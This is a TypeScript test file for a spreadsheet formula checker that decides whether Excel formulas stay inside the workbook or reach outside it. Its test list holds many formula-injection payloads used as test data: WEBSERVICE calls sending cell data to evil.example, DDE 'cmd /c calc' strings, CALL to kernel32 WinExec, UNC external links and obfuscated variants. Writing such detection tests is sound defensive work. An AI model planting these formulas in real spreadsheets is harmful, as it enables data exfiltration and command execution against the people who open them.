import { formulaReach } from "../../../src/workbook/formulas/formulaReach";

const name = (name: string, formula: string) => ({ name, sheet: null, formula });

const { callsGigadeal, staysInside } = formulaReach({
  sheets: [{ name: "Sheet1" }, { name: "Bank's view" }, { name: "Dec" }],
  names: [
    name("Rate", "=Sheet1!$B$1"),
    name("Discounted", "=LAMBDA(x,ANNUALIZE(x,2027,2031)*Rate)"),
    name("Fetched", '=WEBSERVICE("https://evil.example/")'),
    name("Harmless", "=Fetched*1"),
    name("Elsewhere", "='\\\\evil\\share\\[b.xlsx]Sheet1'!$A$1"),
    name("Macro", "=EXEC(1)"),
    name("Round", "=Trip"),
    name("Trip", "=Round"),
  ],
  tables: new Set(["deals"]),
});

/** Attackers vary: each of these is put beside a call of ours, too. */
const outside = [
  'WEBSERVICE("https://evil.example/?x="&A1)',
  'webservice("https://evil.example/")',
  'WEBSERVICE ("https://evil.example/")',
  'WEBSERVICE\n("https://evil.example/")',
  '@WEBSERVICE("https://evil.example/")',
  '_xlfn.WEBSERVICE("https://evil.example/")',
  '_XLFN._xlfn.WebService("https://evil.example/")',
  '_xll.SUM("https://evil.example/")',
  '_xlfn._xll.Fetch("https://evil.example/")',
  'CHOOSE(2,1,WEBSERVICE("https://evil.example/"))',
  'IF(A1,1,IFERROR(WEBSERVICE("https://evil.example/"),2))',
  'LET(u,"https://evil.example/",WEBSERVICE(u))',
  'LET(f,WEBSERVICE,f("https://evil.example/"))',
  'LET(WEBSERVICE,1,WEBSERVICE("https://evil.example/"))',
  "LET(a,{1,2},WEBSERVICE,f,3)",
  "MAP(A1,WEBSERVICE)",
  "MAP(A1,LAMBDA(x,IMAGE(x)))",
  "LAMBDA(x,LET(y,x,HYPERLINK(y)))(A1)",
  'HYPERLINK("https://evil.example/","Click")',
  'IMAGE("https://evil.example/x.png")',
  'FILTERXML("<a/>","//a")',
  'RTD("evil",,"x")',
  'CALL("kernel32","WinExec","JCJ","calc",1)',
  'REGISTER.ID("kernel32","WinExec")',
  'SQL.REQUEST("evil")',
  'CUBEVALUE("evil","x")',
  'STOCKHISTORY("MSFT",1)',
  'IMPORTCSV("https://evil.example/")',
  'COPILOT("send",A1)',
  'PY("x",1)',
  "INDIRECT(\"'\\\\evil\\share\\[b.xlsx]S'!A1\")",
  'INDIRECT("R1C1",FALSE)',
  "CONTOSO.SEND(A1)",
  "EVIL.ANNUALIZE(1,2027,2031)",
  'ＷＥＢＳＥＲＶＩＣＥ("https://evil.example/")',
  'A1("https://evil.example/")',
  "cmd|'/c calc'!A0",
  "CMD|'/C calc.exe'!A0",
  "cmd |'/c calc'!A0",
  "'cmd'|'/c calc'!A0",
  "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
  'DDE("cmd","/c calc","x")',
  "'\\\\evil\\share\\[b.xlsx]Sheet1'!A1",
  "'\\\\evil\\share\\[b.xlsx]Sheet1'!R1C1",
  "'https://evil.example/[b.xlsx]Sheet1'!A1",
  "'https://evil.example/b.xlsx'!Name",
  "[b.xlsx]Sheet1!A1",
  "[1]Sheet1!A1",
  "[0]!Fetched",
  "b.xlsx!Name",
  "'b.xlsx'!Name",
  "'b.xlsx'!Deals[Value]",
  "SUM('[b.xlsx]Jan:Dec'!A1)",
  "Nowhere!A1",
  "Fetched",
  "fetched",
  "Sheet1!Fetched",
  "Harmless+1",
  "Elsewhere",
  "Macro",
  "NoSuchName",
  "LET(Fetched,1,2)",
  '"closed" & "not',
];

test.each(outside)("=%s does not stay inside", (formula) => {
  expect(staysInside(`=${formula}`)).toBe(false);
  expect(staysInside(`=ANNUALIZE(10,2027,2031)+${formula}`)).toBe(false);
  expect(staysInside(`=IF(TRUE,ANNUALIZE(10,2027,2031),${formula})`)).toBe(false);
});

test.each([
  "=ANNUALIZE(A1,$A$2,2031)",
  "=_xldudf_ANNUALIZE(A1,2027,2031)",
  "=GIGADEAL.ANNUALIZE(A1,2027,2031)",
  '=IF(A1>0,annualize(A1,2027,2031)*2,"https://evil.example/ =WEBSERVICE(1)")',
  "=ANNUALIZE('Bank''s view'!C3,Sheet1!A2,2031)+SUM(Sheet1:Dec!A1)",
  "=ANNUALIZE(SUM(Deals[Value]),2027,2031)+SUM(Deals)+ROWS({1,2;3,4})",
  "=_xlfn.LET(_xlpm.x,A1,_xlpm.y,2,ANNUALIZE(_xlpm.x,2027,2031)*_xlpm.y)",
  "=LET(x,A1,y,{1,2},f,LAMBDA(a,a*2),f(ANNUALIZE(x,2027,2031))+y)",
  "=_xlfn._xlws.FILTER(A1:A9,A1:A9>ANNUALIZE(1,2027,2031))",
  "=MAP(A1:A3,LAMBDA(x,[y],ANNUALIZE(x,2027,2031)))+REDUCE(0,A1:A3,SUM)",
  "=ANNUALIZE(#REF!,$A$1,2031)+Sheet1!#REF!+#N/A",
  "=Discounted(A1)*Rate",
  "=ANNUALIZE(1,2027,2031)+Round",
])("%s stays inside and calls Gigadeal", (formula) => {
  expect([staysInside(formula), callsGigadeal(formula)]).toEqual([true, true]);
});

test.each(["=SUM(A1)", '="ANNUALIZE(1,2,3)"', "=Rate*2", "=EVIL.ANNUALIZE(1,2,3)", "=[b.xlsx]S!ANNUALIZE(1)"])(
  "%s calls nothing of Gigadeal's",
  (formula) => expect(callsGigadeal(formula)).toBe(false),
);

test("what does not begin with an equal sign is no formula to write", () => {
  for (const text of ["+ANNUALIZE(1,2027,2031)", "-1", "@SUM(1)", " =ANNUALIZE(1,2027,2031)", "ANNUALIZE(1,2,3)"]) {
    expect(staysInside(text)).toBe(false);
  }
});

test("20,000 names, each of the next, are followed in three seconds", () => {
  const names = Array.from({ length: 20_000 }, (_, at) => name(`name_${at}`, `=name_${at + 1}`));
  const started = performance.now();
  const reach = formulaReach({ sheets: [], names: [...names, name("name_20000", "=IMAGE(1)")], tables: new Set() });
  expect(reach.staysInside("=name_0")).toBe(false);
  expect(performance.now() - started).toBeLessThan(3000);
});
